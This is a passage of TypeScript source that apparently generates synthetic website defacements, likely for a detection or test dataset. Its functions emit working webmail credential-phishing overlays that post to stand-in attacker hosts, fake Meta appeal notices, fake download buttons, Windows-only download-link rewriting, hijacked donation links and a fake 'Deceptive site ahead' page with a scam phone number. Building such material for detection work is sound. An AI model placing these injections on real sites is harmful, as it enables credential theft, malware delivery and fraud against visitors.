  return splices(inAdSlot(rng, page, creative))
})

const dlWords: T<{ readonly buttons: ReadonlyArray<string>; readonly small: string }> = {
  en: { buttons: ["Download", "Start Download", "Download Now", "Free Download", "Play Now"], small: "Fast · Secure · Free" },
  fr: { buttons: ["Télécharger", "Lancer le téléchargement", "Télécharger maintenant", "Téléchargement gratuit", "Jouer"], small: "Rapide · Sécurisé · Gratuit" },
  de: { buttons: ["Herunterladen", "Download starten", "Jetzt herunterladen", "Kostenloser Download", "Jetzt spielen"], small: "Schnell · Sicher · Kostenlos" },
  es: { buttons: ["Descargar", "Iniciar descarga", "Descargar ahora", "Descarga gratis", "Jugar ahora"], small: "Rápido · Seguro · Gratis" },
  nl: { buttons: ["Downloaden", "Download starten", "Nu downloaden", "Gratis download", "Nu spelen"], small: "Snel · Veilig · Gratis" },
  pt: { buttons: ["Baixar", "Iniciar download", "Baixar agora", "Download grátis", "Jogar agora"], small: "Rápido · Seguro · Grátis" },
  it: { buttons: ["Scarica", "Avvia download", "Scarica ora", "Download gratuito", "Gioca ora"], small: "Veloce · Sicuro · Gratis" }
}

// Fake download buttons, recalled from memory of Malwarebytes' and Google's descriptions of misleading "Download" and "Start now" ad creatives placed next to real download links (about 2012–2024), which lead to adware installers and browser hijackers, and of intruders inserting such units on compromised sites: big green or orange buttons labelled like the site's own download, from an unknown ad network, beside the site's download links or near the top of its content.
const fakeDownloadButtons = fresh26("large 'Download' and 'Start now' ad buttons from an unknown network placed beside the site's own download links or near the top of its content (fake download buttons)", (page, rng) => {
  const w = siteOr(rng, page, dlWords)
  const net = pick(rng, [evilHost(rng, page), `${pick(rng, ["dl", "get", "fast", "start"])}${pick(rng, ["-", ""])}${pick(rng, ["offers", "ads", "link", "file"])}.${tld(rng)}`])
  const color = pick(rng, ["#2e7d32", "#43a047", "#ef6c00", "#1565c0", "#00a651"])
  const button = () => `<a href="https://${net}/${pick(rng, ["c", "click", "go", "dl"])}?${pick(rng, ["zone", "pid", "id"])}=${digits(rng, 6)}" rel="nofollow sponsored" style="display:inline-block;margin:6px;background:${color};color:#fff;font:bold ${between(rng, 16, 22)}px Arial,sans-serif;padding:${between(rng, 12, 18)}px ${between(rng, 28, 48)}px;border-radius:${between(rng, 2, 30)}px;text-decoration:none">⬇ ${esc(pick(rng, w.buttons))}</a>`
  const unit = `<div class="${pick(rng, ["dl-ad", "ad-unit", "sponsored-download", "adsbox"])}" style="text-align:center;margin:10px 0">${Array.from({ length: between(rng, 1, 3) }, button).join("")}<div style="font-size:11px;color:#777">${esc(w.small)}${chance(rng, 0.5) ? ` · ${esc(siteOr(rng, page, adLabel))}` : ""}</div></div>`
  const files = fileLinks(page)
  const spots = files.map((a) => afterBlockOf(page, a)).filter((x): x is number => x !== null)
  const at = spots.length > 0 && chance(rng, 0.8) ? pick(rng, spots) : pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), top(page)])
  return splices(insert(at, unit))
})

const webmailWords: T<{ readonly title: string; readonly expired: (d: string) => string; readonly email: string; readonly pass: string; readonly button: string; readonly secured: string }> = {
  en: { title: "Sign in to continue", expired: (d) => `Your session for ${d} has expired. Please confirm your password.`, email: "Email address", pass: "Password", button: "Sign in", secured: "Secured by" },
  fr: { title: "Connectez-vous pour continuer", expired: (d) => `Votre session ${d} a expiré. Veuillez confirmer votre mot de passe.`, email: "Adresse e-mail", pass: "Mot de passe", button: "Se connecter", secured: "Sécurisé par" },
  de: { title: "Anmelden, um fortzufahren", expired: (d) => `Ihre Sitzung für ${d} ist abgelaufen. Bitte bestätigen Sie Ihr Passwort.`, email: "E-Mail-Adresse", pass: "Passwort", button: "Anmelden", secured: "Gesichert durch" },
  es: { title: "Inicie sesión para continuar", expired: (d) => `Su sesión de ${d} ha caducado. Confirme su contraseña.`, email: "Correo electrónico", pass: "Contraseña", button: "Iniciar sesión", secured: "Protegido por" },
  nl: { title: "Meld u aan om door te gaan", expired: (d) => `Uw sessie voor ${d} is verlopen. Bevestig uw wachtwoord.`, email: "E-mailadres", pass: "Wachtwoord", button: "Aanmelden", secured: "Beveiligd door" },
  pt: { title: "Entre para continuar", expired: (d) => `Sua sessão de ${d} expirou. Confirme sua senha.`, email: "Endereço de e-mail", pass: "Senha", button: "Entrar", secured: "Protegido por" },
  it: { title: "Accedi per continuare", expired: (d) => `La sessione per ${d} è scaduta. Conferma la password.`, email: "Indirizzo e-mail", pass: "Password", button: "Accedi", secured: "Protetto da" }
}

// Phishing kits that personalise themselves, recalled from memory of Cofense's and Trustwave's analyses of webmail phishing kits planted on compromised sites (about 2020–2024): the link in the lure carries the victim's address after a # (plain or base64), the page fills it in, takes the domain after the @ and shows that company's logo through a public logo or favicon service, and styles itself as Roundcube, cPanel webmail, Zimbra or Outlook on the web.
const webmailPrefill = fresh26("webmail sign-in box over the page (Roundcube, cPanel, Zimbra, Outlook look) that fills the address from the link's #fragment and shows that domain's logo from a logo service", (page, rng) => {
  const w = siteOr(rng, page, webmailWords)
  const look = pick(rng, ["Roundcube Webmail", "cPanel Webmail", "Zimbra", "Outlook Web App", "Webmail"])
  const sink = `https://${evilHost(rng, page)}/${pick(rng, ["next.php", "auth/login.php", "owa/auth.php", "mail/verify.php", `${alnum(rng, 6)}/post.php`])}`
  const id = idOf(rng, ["wm", "mail", "login", "sess"])
  const logoSvc = pick(rng, [`"https://logo.clearbit.com/"+d`, `"https://www.google.com/s2/favicons?sz=64&domain="+d`, `"https://icons.duckduckgo.com/ip3/"+d+".ico"`, `"https://"+d+"/favicon.ico"`])
  const f = font(rng)
  const html = `<div id="${id}" style="position:fixed;${cover(rng)};z-index:${zTop(rng)};background:${pick(rng, ["rgba(0,0,0,.6)", "#eef1f5", "rgba(30,40,60,.85)"])};font:14px ${f}"><form action="${esc(sink)}" method="post" style="max-width:${between(rng, 320, 400)}px;margin:${between(rng, 10, 20)}vh auto 0;background:#fff;border-radius:6px;padding:24px;color:#222"><img id="${id}-l" src="${esc(`${new URL(page.site.url).origin}/favicon.ico`)}" alt="" width="48" height="48" style="display:block;margin:0 auto 8px"><h2 style="text-align:center;margin:0 0 6px;font-size:18px">${esc(w.title)}</h2><p id="${id}-d" style="text-align:center;color:#555;margin:0 0 14px">${esc(w.expired(page.site.domain))}</p><input type="email" id="${id}-e" name="${pick(rng, ["email", "login", "_user", "username"])}" placeholder="${esc(w.email)}" style="display:block;width:100%;box-sizing:border-box;margin:6px 0;padding:9px"><input type="password" name="${pick(rng, ["password", "pass", "_pass", "pwd"])}" placeholder="${esc(w.pass)}" style="display:block;width:100%;box-sizing:border-box;margin:6px 0;padding:9px"><button type="submit" style="width:100%;padding:10px;border:0;border-radius:4px;background:${pick(rng, ["#0078d4", "#37beff", "#ff6c2c", "#2c6ecb"])};color:#fff">${esc(w.button)}</button><p style="text-align:center;font-size:11px;color:#888;margin:10px 0 0">${esc(w.secured)} ${esc(look)}</p></form></div>`
  const decode = pick(rng, [`var m=decodeURIComponent(location.hash.slice(1));`, `var m=location.hash.slice(1);try{if(m.indexOf("@")<0)m=atob(m)}catch(e){}`, `var m=(location.hash.match(/[#&](?:e|email|u)=([^&]+)/)||[])[1]||location.hash.slice(1);m=decodeURIComponent(m);`])
  const script = `<script>(function(){${decode}if(m.indexOf("@")>0){var d=m.split("@")[1];document.getElementById("${id}-e").value=m;document.getElementById("${id}-l").src=${logoSvc};document.getElementById("${id}-d").textContent=document.getElementById("${id}-d").textContent.replace(${js(page.site.domain)},d)}})();</script>`
  return splices(insert(overlaySpot(rng, page), html + script))
})

const appealWords: T<{ readonly head: string; readonly body: string; readonly caseNo: string; readonly button: string; readonly team: string }> = {
  en: { head: "Your page has been scheduled for deletion", body: "We received several reports that your page violates our Community Standards on intellectual property. If you believe this is a mistake, submit an appeal within 24 hours; otherwise the page will be permanently deleted.", caseNo: "Case number", button: "Submit appeal", team: "Meta Business Support" },
  fr: { head: "Votre page va être supprimée", body: "Nous avons reçu plusieurs signalements indiquant que votre page enfreint nos Standards de la communauté en matière de propriété intellectuelle. Si vous pensez qu'il s'agit d'une erreur, faites appel sous 24 heures ; sinon la page sera définitivement supprimée.", caseNo: "Numéro de dossier", button: "Faire appel", team: "Assistance Meta Business" },
  de: { head: "Ihre Seite wird gelöscht", body: "Wir haben mehrere Meldungen erhalten, dass Ihre Seite gegen unsere Gemeinschaftsstandards zum geistigen Eigentum verstößt. Wenn Sie glauben, dass dies ein Fehler ist, legen Sie innerhalb von 24 Stunden Einspruch ein, sonst wird die Seite dauerhaft gelöscht.", caseNo: "Fallnummer", button: "Einspruch einlegen", team: "Meta Business Support" },
  es: { head: "Tu página se eliminará próximamente", body: "Hemos recibido varias denuncias de que tu página infringe nuestras Normas comunitarias sobre propiedad intelectual. Si crees que es un error, presenta una apelación en las próximas 24 horas; de lo contrario, la página se eliminará de forma permanente.", caseNo: "Número de caso", button: "Presentar apelación", team: "Servicio de asistencia de Meta Business" },
  nl: { head: "Je pagina wordt verwijderd", body: "We hebben meerdere meldingen ontvangen dat je pagina onze Communitynormen over intellectueel eigendom schendt. Denk je dat dit een vergissing is, dien dan binnen 24 uur bezwaar in; anders wordt de pagina definitief verwijderd.", caseNo: "Zaaknummer", button: "Bezwaar indienen", team: "Meta Business-ondersteuning" },
  pt: { head: "Sua página será excluída", body: "Recebemos várias denúncias de que sua página viola nossos Padrões da Comunidade sobre propriedade intelectual. Se você acha que é um engano, envie uma contestação em até 24 horas; caso contrário, a página será excluída permanentemente.", caseNo: "Número do caso", button: "Enviar contestação", team: "Suporte do Meta Business" },
  it: { head: "La tua pagina verrà eliminata", body: "Abbiamo ricevuto diverse segnalazioni secondo cui la tua pagina viola i nostri Standard della community sulla proprietà intellettuale. Se pensi che si tratti di un errore, presenta ricorso entro 24 ore; altrimenti la pagina verrà eliminata definitivamente.", caseNo: "Numero del caso", button: "Presenta ricorso", team: "Supporto Meta Business" }
}

// Meta page-appeal phishing, recalled from memory of Trustwave's, Check Point's and Guardio's reports (about 2023–2024) on lures telling page owners that their Facebook page will be deleted for a copyright or policy violation unless they appeal within 24 hours, whose "appeal" forms (often hosted on compromised sites or free builders) steal business-account passwords and two-factor codes: the notice in the site's language with a case number, its appeal link on another host.
const metaAppeal = fresh26("'your page violates our community standards and will be deleted within 24 hours, appeal here' Meta notice linking to an appeal form on another host", (page, rng) => {
  const w = siteOr(rng, page, appealWords)
  const caseNo = `#${digits(rng, between(rng, 8, 12))}`
  const url = `https://${pick(rng, [evilHost(rng, page), `${pick(rng, ["meta", "fb", "business", "pages"])}-${pick(rng, ["appeal", "support", "help", "review", "case"])}${pick(rng, ["", "-center", digits(rng, 2)])}.${tld(rng)}`])}/${pick(rng, ["appeal", "case", "review", "support/form"])}${chance(rng, 0.6) ? `?id=${digits(rng, 12)}` : ""}`
  const box = `<div class="${pick(rng, ["notice", "alert", "policy-notice", "fb-notice"])}" style="max-width:${between(rng, 460, 620)}px;margin:${between(rng, 10, 24)}px auto;border:1px solid #dddfe2;border-radius:8px;background:#fff;font:14px Helvetica,Arial,sans-serif;color:#1c1e21;overflow:hidden"><div style="background:${pick(rng, ["#1877f2", "#0866ff", "#4267b2"])};color:#fff;padding:10px 16px;font-weight:bold">${esc(w.team)}</div><div style="padding:16px"><h3 style="margin:0 0 8px">⚠️ ${esc(w.head)}</h3><p>${esc(w.body)}</p><p style="color:#606770">${esc(w.caseNo)}: ${caseNo}</p><a href="${esc(url)}" style="display:inline-block;background:#1877f2;color:#fff;padding:8px 18px;border-radius:6px;text-decoration:none">${esc(w.button)}</a></div></div>`
  const fixed = chance(rng, 0.35)
  return splices(insert(fixed ? overlaySpot(rng, page) : noticeSpot(rng, page), fixed ? `<div style="position:fixed;${cover(rng)};z-index:${zTop(rng)};background:rgba(0,0,0,.55);padding-top:10vh">${box}</div>` : box))
})

const fastWords: T<{ readonly fast: string; readonly slow: string; readonly note: string }> = {
  en: { fast: "Fast download (recommended)", slow: "slow download", note: "Our download manager resumes broken downloads and checks the file." },
  fr: { fast: "Téléchargement rapide (recommandé)", slow: "téléchargement lent", note: "Notre gestionnaire de téléchargement reprend les téléchargements interrompus et vérifie le fichier." },
  de: { fast: "Schneller Download (empfohlen)", slow: "langsamer Download", note: "Unser Download-Manager setzt abgebrochene Downloads fort und prüft die Datei." },
  es: { fast: "Descarga rápida (recomendada)", slow: "descarga lenta", note: "Nuestro gestor de descargas reanuda las descargas interrumpidas y comprueba el archivo." },
  nl: { fast: "Snelle download (aanbevolen)", slow: "langzame download", note: "Onze downloadmanager hervat onderbroken downloads en controleert het bestand." },
  pt: { fast: "Download rápido (recomendado)", slow: "download lento", note: "Nosso gerenciador de downloads retoma downloads interrompidos e verifica o arquivo." },
  it: { fast: "Download veloce (consigliato)", slow: "download lento", note: "Il nostro download manager riprende i download interrotti e verifica il file." }
}

// Download-manager wrappers, recalled from memory of Malwarebytes' and others' write-ups on bundleware (InstallCore-style wrappers and download-portal "download managers", about 2012–2020) and of compromised download pages where a "fast download" button was put before the real link: the wrapper, named after the wanted file, installs adware or worse before fetching it, and the site's own link is left as the "slow" alternative.
const fastDownloadWrapper = fresh26("'fast download (recommended)' button put before the site's own download links, fetching a downloader .exe named after the file from another host, the real link left as 'slow download'", (page, rng) => {
  const w = siteOr(rng, page, fastWords)
  const host = pick(rng, [evilHost(rng, page), `${pick(rng, ["fast", "turbo", "quick", "dl", "secure"])}${pick(rng, ["-", ""])}${pick(rng, ["download", "dl", "files", "get"])}${pick(rng, ["er", "s", "hub", "pro"])}.${tld(rng)}`])
  const wrapperFor = (name: string) => `https://${host}/${pick(rng, ["get", "dl", "download"])}/${encodeURIComponent(name.replace(/\.[a-z0-9.]+$/i, ""))}${pick(rng, ["_Downloader", "_Setup", "-installer", "_FastDL"])}.exe?${pick(rng, ["aff", "pid", "src"])}=${digits(rng, 5)}`
  const button = (name: string) => `<a href="${esc(wrapperFor(name))}" class="${pick(rng, ["btn-fast", "fast-dl", "button download"])}" style="display:inline-block;background:${pick(rng, ["#2e7d32", "#ef6c00", "#1565c0"])};color:#fff;padding:8px 16px;border-radius:4px;text-decoration:none;margin:4px 6px 4px 0">⚡ ${esc(w.fast)}</a>`
  const files = fileLinks(page)
  if (files.length > 0 && chance(rng, 0.85)) {
    const chosen = sample(rng, files, between(rng, 1, Math.min(3, files.length)))
    return splices(...chosen.flatMap((a) => {
      const name = decodeURIComponent((a.attribs.href ?? "").split(/[?#]/)[0]!.split("/").pop() || `${bare(page)}-setup.exe`)
      return [insert(a.start, button(name)), ...(a.closeTag === null ? [] : [insert(a.closeTag.end, ` <small>(${esc(w.slow)})</small>`)])]
    }))
  }
  const name = `${bare(page)}${pick(rng, ["-setup", "_installer", "-app", "-brochure", "-catalogue"])}${pick(rng, [".exe", ".zip", ".pdf", ".msi"])}`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), `<div class="${pick(rng, ["download-box", "downloads", "dl"])}"><p>${button(name)} <a href="/downloads/${esc(name)}">${esc(name)}</a> <small>(${esc(w.slow)})</small></p><p><small>${esc(w.note)}</small></p></div>`))
})

const dlLabel: T<string> = { en: "Download for Windows", fr: "Télécharger pour Windows", de: "Für Windows herunterladen", es: "Descargar para Windows", nl: "Downloaden voor Windows", pt: "Baixar para Windows", it: "Scarica per Windows" }

// Selective delivery of trojanised installers, recalled from memory of ESET's and Kaspersky's reports on compromised software-download pages that served the malicious build only to some visitors (Windows users, chosen networks) while the markup and everyone else kept the genuine files (about 2019–2025): a script that, on Windows only, rewrites the page's installer and download links to a file on another host after the page loads.
const windowsOnlyDownloads = fresh26("script that rewrites the site's download links only for Windows visitors, at run time, to an installer on another host (the markup keeps the real links)", (page, rng) => {
  const file = `${pick(rng, [`${bare(page)}-setup`, `${bare(page)}_installer`, "setup", "install", `${bare(page)}-${between(rng, 1, 9)}.${between(rng, 0, 9)}-x64`])}.${pick(rng, ["exe", "msi", "msix", "zip"])}`
  const url = `https://${pick(rng, [brandLookalike(rng, page.site.brand), evilHost(rng, page), `github.com/${pick(rng, [bare(page), `${bare(page)}-app`, `${bare(page)}-dev`])}${pick(rng, ["", "s", "-official"])}/${bare(page)}/releases/download/v${between(rng, 1, 9)}.${between(rng, 0, 9)}.${between(rng, 0, 9)}`])}/${file}`
  const selector = pick(rng, [`a[href$=".exe"],a[href$=".msi"],a[href$=".zip"],a[href*="download"]`, `a[href*=".exe"],a[href*=".msi"],a[download]`, `a[href*="download"],a[href*="setup"],a[href*="install"]`])
  const rewrite = `document.querySelectorAll(${js(selector)}).forEach(function(a){a.href=${js(url)};a.removeAttribute("integrity")});`
  const later = chance(rng, 0.5) ? `setTimeout(function(){${rewrite}},${between(rng, 200, 2000)});` : rewrite
  const closed = `if(/Windows/.test(navigator.userAgent)${chance(rng, 0.4) ? "&&!/bot|crawl/i.test(navigator.userAgent)" : ""}){${later}}`
  const out: Array<Splice> = [insert(pick(rng, [bottom(page), bottom(page), head(page)]), wrapScript(rng, closed))]
  if (fileLinks(page).length === 0) {
    const label = siteOr(rng, page, dlLabel)
    out.push(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), `<p class="${pick(rng, ["download", "cta", "get-app"])}"><a href="/download/${esc(`${bare(page)}-setup.exe`)}" class="button">${esc(label)}</a></p>`))
  }
  return { splices: out }
})

const cryptoWords: T<{ readonly head: (b: string) => string; readonly body: string; readonly button: string }> = {
  en: { head: (b) => `Support ${b} with crypto`, body: "We now accept Bitcoin, Ethereum, USDT and other coins through our secure payment partner.", button: "Donate with crypto" },
  fr: { head: (b) => `Soutenez ${b} en cryptomonnaies`, body: "Nous acceptons désormais le Bitcoin, l'Ethereum, l'USDT et d'autres cryptomonnaies via notre partenaire de paiement sécurisé.", button: "Faire un don en crypto" },
  de: { head: (b) => `Unterstützen Sie ${b} mit Kryptowährungen`, body: "Wir nehmen jetzt Bitcoin, Ethereum, USDT und weitere Coins über unseren sicheren Zahlungspartner an.", button: "Mit Krypto spenden" },
  es: { head: (b) => `Apoya a ${b} con criptomonedas`, body: "Ahora aceptamos Bitcoin, Ethereum, USDT y otras monedas a través de nuestro socio de pagos seguro.", button: "Donar con cripto" },
  nl: { head: (b) => `Steun ${b} met crypto`, body: "We accepteren nu Bitcoin, Ethereum, USDT en andere munten via onze beveiligde betaalpartner.", button: "Doneer met crypto" },
  pt: { head: (b) => `Apoie ${b} com cripto`, body: "Agora aceitamos Bitcoin, Ethereum, USDT e outras moedas por meio do nosso parceiro de pagamento seguro.", button: "Doar com cripto" },
  it: { head: (b) => `Sostieni ${b} con le criptovalute`, body: "Ora accettiamo Bitcoin, Ethereum, USDT e altre monete tramite il nostro partner di pagamento sicuro.", button: "Dona in cripto" }
}

// Donation checkouts under someone else's merchant account, recalled from memory of ESET's and Bitdefender's warnings about fake crypto donation appeals during the invasion of Ukraine (about March 2022) and of clean-up cases where intruders added crypto "donate" buttons to hacked charity and news sites: a real processor's hosted checkout or widget (Coinbase Commerce, NOWPayments, CoinGate, Cryptomus) in the site's name, whose merchant id belongs to the intruder, so the coins never reach the site.
const cryptoProcessorDonate = fresh26("crypto donation button or widget from a real crypto payment processor (Coinbase Commerce, NOWPayments, CoinGate, Cryptomus) under another merchant's id, in the site's name", (page, rng) => {
  const w = siteOr(rng, page, cryptoWords)
  const b = brandName(page)
  const widget = pick(rng, [
    () => `<a class="donate-with-crypto" href="https://commerce.coinbase.com/checkout/${uuid(rng)}" style="display:inline-block;background:#0052ff;color:#fff;padding:10px 18px;border-radius:6px;text-decoration:none">${esc(w.button)}</a>${chance(rng, 0.5) ? `<script src="https://commerce.coinbase.com/v1/checkout.js?version=201807"></script>` : ""}`,
    () => `<iframe src="https://nowpayments.io/embeds/donation-widget?api_key=${upper(rng, 7)}-${upper(rng, 7)}-${upper(rng, 7)}-${upper(rng, 7)}" width="346" height="623" frameborder="0" scrolling="no" style="overflow-y:hidden" title="${esc(w.button)}"></iframe>`,
    () => `<a href="https://nowpayments.io/donation/${bare(page)}${pick(rng, ["", "_org", "official", "fund", "donate"])}" target="_blank" rel="noreferrer noopener"><img src="https://nowpayments.io/images/embeds/donation-button-black.svg" alt="${esc(w.button)}"></a>`,
    () => `<a href="https://coingate.com/pay/${bare(page)}${pick(rng, ["", "-donations", "-fund", "org"])}" style="display:inline-block;background:#2b3340;color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none">${esc(w.button)}</a>`,
    () => `<a href="https://pay.cryptomus.com/pay/${uuid(rng)}" style="display:inline-block;background:#111;color:#fff;padding:10px 18px;border-radius:20px;text-decoration:none">${esc(w.button)}</a>`
  ])()
  const html = `<div class="${pick(rng, ["donate-crypto", "support-box", "donation"])}"><h3>${esc(w.head(b))}</h3><p>${esc(w.body)}</p>${widget}</div>`
  return splices(pick(rng, [() => besideContact(rng, page, `${esc(w.head(b))}: ${widget}`), () => insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), slotAt(page.spots, "bottom")]), html)])())
})

const donateRe = /(donat|\bdon\b|\bdons\b|faire-un-don|spend|unterst|soutenez|soutenir|apoy|apoie|apoia|steun|doneer|sostieni|\bdona\b|\bgive\b|giving|fundrais|contribut|support us)/i
const campaignWords: T<(b: string) => string> = {
  en: (b) => `Donate to ${b} on our fundraising page`, fr: (b) => `Faites un don à ${b} sur notre cagnotte`, de: (b) => `Spenden Sie für ${b} über unsere Spendenseite`, es: (b) => `Dona a ${b} en nuestra página de recaudación`,
  nl: (b) => `Doneer aan ${b} via onze inzamelingspagina`, pt: (b) => `Doe para ${b} em nossa vaquinha`, it: (b) => `Dona a ${b} sulla nostra raccolta fondi`
}

// Impostor fundraisers on real platforms, recalled from memory of consumer-protection warnings (FTC, Action Fraud, GoFundMe's trust-and-safety pages, about 2017–2024) about campaigns opened in an organisation's or a victim's name by strangers, and of hacked sites whose donate links were pointed at such campaigns: the page's donate links, payment line or a new line lead to a campaign on GoFundMe, JustGiving, Leetchi, Ko-fi or a PayPal pool run by someone else, titled with the organisation's name.
const impostorCampaign = fresh26("site's donate links and payment line pointed at an impostor's campaign on a real crowdfunding platform (GoFundMe, JustGiving, Leetchi, Ko-fi, PayPal pool) in the organisation's name", (page, rng) => {
  const s = slug(`${bare(page)} ${pick(rng, ["support fund", "emergency appeal", "relief", "help us", "official", "donations", "keep us going"])}`)
  const url = pick(rng, [
    () => `https://www.gofundme.com/f/${s}${chance(rng, 0.5) ? `-${alnum(rng, 4)}` : ""}`,
    () => `https://www.justgiving.com/crowdfunding/${s}`,
    () => `https://www.leetchi.com/${pick(rng, ["c", "fr/c"])}/${s}-${digits(rng, 7)}`,
    () => `https://ko-fi.com/${bare(page)}${pick(rng, ["fund", "official", "_help", "support", "donate"])}`,
    () => `https://www.paypal.com/pools/c/${alnum(rng, 10)}`,
    () => `https://www.gofundme.com/f/${s}`
  ])()
  const payHref = page.ids.pay?.href ?? null
  const linksToSwap = links(page).filter((a) => donateRe.test(a.attribs.href ?? "") || donateRe.test(textOf(page, a)) || (payHref !== null && a.attribs.href === payHref))
  const targets = attrTargets(page, linksToSwap, "href")
  const out: Array<Splice> = targets.length > 0 ? sample(rng, targets, between(rng, 1, Math.min(4, targets.length))).map((t) => replace(t.value, esc(url))) : []
  if (out.length === 0 || chance(rng, 0.4)) out.push(besideContact(rng, page, `<a href="${esc(url)}">${esc(siteOr(rng, page, campaignWords)(brandName(page)))}</a>`))
  return { splices: out }
})

const blockWords: T<{ readonly head: string; readonly body: (h: string) => string; readonly call: (b: string) => string; readonly back: string; readonly details: string }> = {
  en: { head: "Deceptive site ahead", body: (h) => `Attackers on ${h} may trick you into doing something dangerous like installing software or revealing your personal information (for example, passwords, phone numbers or credit cards).`, call: (b) => `Your computer has been blocked for your safety. Call ${b} Support to unblock it:`, back: "Back to safety", details: "Details" },
  fr: { head: "Site trompeur", body: (h) => `Des pirates sur ${h} pourraient vous inciter à effectuer une action dangereuse, comme installer des logiciels ou divulguer vos informations personnelles (mots de passe, numéros de téléphone ou de carte bancaire, par exemple).`, call: (b) => `Votre ordinateur a été bloqué pour votre sécurité. Appelez l'assistance ${b} pour le débloquer :`, back: "Retour à la sécurité", details: "Détails" },
  de: { head: "Betrügerische Website", body: (h) => `Angreifer auf ${h} versuchen möglicherweise, Sie zu gefährlichen Aktionen zu verleiten, beispielsweise zur Installation von Software oder zur Preisgabe personenbezogener Daten (etwa Passwörter, Telefonnummern oder Kreditkartendaten).`, call: (b) => `Ihr Computer wurde zu Ihrer Sicherheit gesperrt. Rufen Sie den ${b}-Support an, um ihn zu entsperren:`, back: "Zurück zu sicherer Website", details: "Details" },
  es: { head: "Sitio web engañoso", body: (h) => `Es posible que los atacantes de ${h} intenten engañarte para que hagas algo peligroso, como instalar software o revelar información personal (por ejemplo, contraseñas, números de teléfono o tarjetas de crédito).`, call: (b) => `Tu ordenador se ha bloqueado por tu seguridad. Llama al soporte de ${b} para desbloquearlo:`, back: "Volver a un sitio seguro", details: "Detalles" },
  nl: { head: "Misleidende site", body: (h) => `Aanvallers op ${h} kunnen je misleiden om iets gevaarlijks te doen, zoals software installeren of persoonlijke gegevens vrijgeven (bijvoorbeeld wachtwoorden, telefoonnummers of creditcards).`, call: (b) => `Je computer is voor je veiligheid geblokkeerd. Bel ${b} Support om hem te deblokkeren:`, back: "Terug naar veilige pagina", details: "Details" },
  pt: { head: "Site enganoso à frente", body: (h) => `Invasores em ${h} podem enganar você para que faça algo perigoso, como instalar software ou revelar informações pessoais (por exemplo, senhas, números de telefone ou cartões de crédito).`, call: (b) => `Seu computador foi bloqueado para sua segurança. Ligue para o suporte ${b} para desbloqueá-lo:`, back: "Voltar à segurança", details: "Detalhes" },
  it: { head: "Sito ingannevole", body: (h) => `Gli utenti malintenzionati su ${h} potrebbero indurti a compiere azioni pericolose, come installare software o rivelare informazioni personali (ad esempio password, numeri di telefono o carte di credito).`, call: (b) => `Il tuo computer è stato bloccato per la tua sicurezza. Chiama l'assistenza ${b} per sbloccarlo:`, back: "Torna in un sito sicuro", details: "Dettagli" }
}
/** A toll-free looking number in the site's country, as tech-support scams localise them. */
const scamNumber = (rng: Rng, page: Page): string => {
  switch (page.site.locale.country) {
    case "uk": return `0800 ${digits(rng, 3)} ${digits(rng, 4)}`
    case "fr": return `0 805 ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`
    case "de": return `0800 ${digits(rng, 3)} ${digits(rng, 4)}`
    case "es": return `900 ${digits(rng, 3)} ${digits(rng, 3)}`
    case "nl": return `0800-${digits(rng, 4)}`
    case "it": return `800 ${digits(rng, 3)} ${digits(rng, 3)}`
    case "br": return `0800 ${digits(rng, 3)} ${digits(rng, 4)}`
    case "au": return `1800 ${digits(rng, 3)} ${digits(rng, 3)}`
    case "in": return `1800-${digits(rng, 3)}-${digits(rng, 4)}`
    default: return `+1 (8${pick(rng, ["00", "33", "44", "55", "66", "77", "88"])}) ${digits(rng, 3)}-${digits(rng, 4)}`
  }
}

// Imitations of the browser's own warning, recalled from memory of Malwarebytes' and Sucuri's write-ups on tech-support scam pages and injections that copy Chrome's red Safe Browsing interstitial ("Deceptive site ahead") or Edge's SmartScreen page, then add a "call support to unblock" number (about 2017–2024): the red warning over the site, naming its own host, with a toll-free-looking number in the visitor's country format.
const fakeSafeBrowsing = fresh26("full-window copy of the browser's red 'Deceptive site ahead' warning naming the site, with a support number to call to 'unblock' the computer", (page, rng) => {
  const w = siteOr(rng, page, blockWords)
  const brand = pick(rng, ["Microsoft", "Windows", "Google Chrome", "Microsoft Edge", "Apple"])
  const num = scamNumber(rng, page)
  const id = idOf(rng, ["sb", "warn", "phish", "blk"])
  const html = `<div id="${id}" style="position:fixed;${cover(rng)};z-index:${zTop(rng)};background:${pick(rng, ["#d93025", "#c5221f", "#b3261e"])};color:#fff;font:16px Roboto,'Segoe UI',Arial,sans-serif"><div style="max-width:${between(rng, 560, 700)}px;margin:${between(rng, 10, 18)}vh auto 0;padding:0 20px"><div style="font-size:${between(rng, 44, 64)}px">⚠</div><h1 style="font-weight:400;font-size:${between(rng, 26, 34)}px">${esc(w.head)}</h1><p>${esc(w.body(page.site.host))}</p><p style="font-weight:bold">${esc(w.call(brand))} <a href="tel:${num.replace(/[^\d+]/g, "")}" style="color:#fff">${esc(num)}</a></p><p><button type="button" style="background:#fff;color:#d93025;border:0;border-radius:4px;padding:9px 18px">${esc(w.back)}</button> <a href="tel:${num.replace(/[^\d+]/g, "")}" style="color:#fff;margin-left:12px">${esc(w.details)}</a></p></div></div>`
  const extra = pick(rng, ["", `<script>history.pushState(null,"",location.href);window.addEventListener("popstate",function(){history.pushState(null,"",location.href)});</script>`, `<script>window.onbeforeunload=function(){return ${js(w.head)}};</script>`, `<audio autoplay loop src="https://${randomDomain(rng)}/${pick(rng, ["alert", "warning", "beep"])}.mp3"></audio>`])
  return splices(insert(overlaySpot(rng, page), html + extra))
})

/** Every fresh26 defacement class, in a fixed order. */
export const fresh26Defacements: ReadonlyArray<ChangeClass> = [
  languageRedirect, adminSparing, clockHost, tdsFingerprint, realBrowserOnly, inAppOnly,
  macTerminalFix, howToFix, meetingFix, windowsUpdateFix, allowPushLure, ddosVerifyFile,
  androidChromeApk, shadowedLoader,
  ruDiploma, pharmacyTable, glpPens, exchangeReferral, hiddenByNextScript, colourPrediction, cnGhostwriting, ruCasinoMirror,
  pluginHandle, scarewareAd, fakeDownloadButtons, webmailPrefill, metaAppeal, fastDownloadWrapper, windowsOnlyDownloads,
  cryptoProcessorDonate, impostorCampaign, fakeSafeBrowsing
]
